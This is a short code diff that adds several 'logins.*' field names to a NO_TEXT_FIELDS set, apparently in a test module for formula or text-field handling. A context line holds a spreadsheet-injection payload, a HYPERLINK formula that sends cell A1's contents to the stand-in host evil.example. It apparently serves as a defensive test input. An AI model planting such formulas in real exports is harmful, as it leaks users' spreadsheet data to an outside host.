@@ -50,7 +50,8 @@ NO_TEXT_FIELDS = {
     "reminders.cancel", "reminders.retry", "reminders.pause", "reminders.resolve_problem",
     "reminders.reminder_times", "reviews.standard_checklist", "reviews.standard_categories",
     "reviews.move_checklist_item", "reviews.sign_off", "reviews.start_for_session", "api_tokens.revoke",
-    "reviews.checklist", "reviews.new_note",
+    "reviews.checklist", "reviews.new_note", "logins.change_role", "logins.confirmed", "logins.from_posts",
+    "logins.link",
 }
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
